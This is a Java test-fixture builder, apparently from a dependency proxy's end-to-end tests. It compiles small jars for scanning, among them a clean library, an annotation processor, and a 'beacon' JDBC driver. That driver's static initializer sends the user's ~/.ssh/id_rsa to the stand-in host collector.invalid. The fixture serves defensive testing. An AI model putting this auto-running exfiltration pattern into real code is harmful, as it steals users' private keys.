package dev.gatehouse.proxy.e2e;

import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;
import java.util.jar.Manifest;
import java.util.stream.Stream;
import javax.tools.JavaCompiler;
import javax.tools.ToolProvider;

/**
 * Builds a jar from Java source text, compiled with the JDK's compiler, plus resource entries such as
 * {@code META-INF/services} files. Nothing in it is ever run. (Until the analyzer's test-jar publishes its
 * own fixture builder, the proxy's tests use this small one.)
 */
final class FixtureJar {
  private final Map<String, String> sources = new LinkedHashMap<>();
  private final Map<String, String> resources = new LinkedHashMap<>();

  static FixtureJar builder() {
    return new FixtureJar();
  }

  /** A class from source text; {@code className} is binary-style with slashes, as in {@code fixture/Beacon}. */
  FixtureJar javaSource(String className, String source) {
    sources.put(className, source);
    return this;
  }

  /** A {@code META-INF/services/<service>} file naming {@code provider}. */
  FixtureJar service(String service, String provider) {
    resources.put("META-INF/services/" + service, provider + "\n");
    return this;
  }

  Path build(Path dir, String fileName) {
    try {
      Path work = Files.createTempDirectory(dir, "fixture-");
      Path src = work.resolve("src");
      Path classes = Files.createDirectories(work.resolve("classes"));
      List<String> args = new ArrayList<>(List.of("--release", "17", "-proc:none", "-d", classes.toString()));
      for (Map.Entry<String, String> s : sources.entrySet()) {
        Path file = src.resolve(s.getKey() + ".java");
        Files.createDirectories(file.getParent());
        Files.writeString(file, s.getValue(), StandardCharsets.UTF_8);
        args.add(file.toString());
      }
      if (!sources.isEmpty()) {
        JavaCompiler javac = ToolProvider.getSystemJavaCompiler();
        int status = javac.run(null, null, null, args.toArray(String[]::new));
        if (status != 0) {
          throw new IllegalStateException("fixture sources do not compile (javac exit " + status + ")");
        }
      }
      Path jar = dir.resolve(fileName);
      Manifest manifest = new Manifest();
      manifest.getMainAttributes().putValue("Manifest-Version", "1.0");
      try (OutputStream out = Files.newOutputStream(jar); JarOutputStream zip = new JarOutputStream(out, manifest)) {
        try (Stream<Path> files = Files.walk(classes)) {
          for (Path f : files.filter(Files::isRegularFile).sorted().toList()) {
            zip.putNextEntry(new JarEntry(classes.relativize(f).toString().replace('\\', '/')));
            zip.write(Files.readAllBytes(f));
            zip.closeEntry();
          }
        }
        for (Map.Entry<String, String> r : resources.entrySet()) {
          zip.putNextEntry(new JarEntry(r.getKey()));
          zip.write(r.getValue().getBytes(StandardCharsets.UTF_8));
          zip.closeEntry();
        }
      }
      return jar;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** A plain library: a class with a method and nothing that runs on its own. */
  static FixtureJar clean(String pkg) {
    return builder().javaSource(pkg + "/Greeter", """
        package %s;
        public class Greeter {
          public String greet(String name) { return "hello " + name; }
        }
        """.formatted(pkg));
  }

  /** A JDBC driver whose static initializer sends ~/.ssh/id_rsa to collector.invalid. Inert: never run. */
  static FixtureJar beacon() {
    return builder().service("java.sql.Driver", "fixture.Beacon").javaSource("fixture/Beacon", """
        package fixture;
        import java.nio.file.*;
        public class Beacon {
          static {
            try (var s = new java.net.Socket("collector.invalid", 443)) {
              s.getOutputStream().write(Files.readAllBytes(Path.of(System.getProperty("user.home"), ".ssh/id_rsa")));
            } catch (Exception e) { }
          }
        }
        """);
  }

  /** An annotation processor: build-time code, quarantined under the default policy. */
  static FixtureJar processor() {
    return builder().service("javax.annotation.processing.Processor", "fixture.Shaper")
        .javaSource("fixture/Shaper", """
            package fixture;
            import java.util.Set;
            import javax.annotation.processing.*;
            import javax.lang.model.element.TypeElement;
            @SupportedAnnotationTypes("*")
            public class Shaper extends AbstractProcessor {
              @Override public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment env) {
                return false;
              }
            }
            """);
  }
}
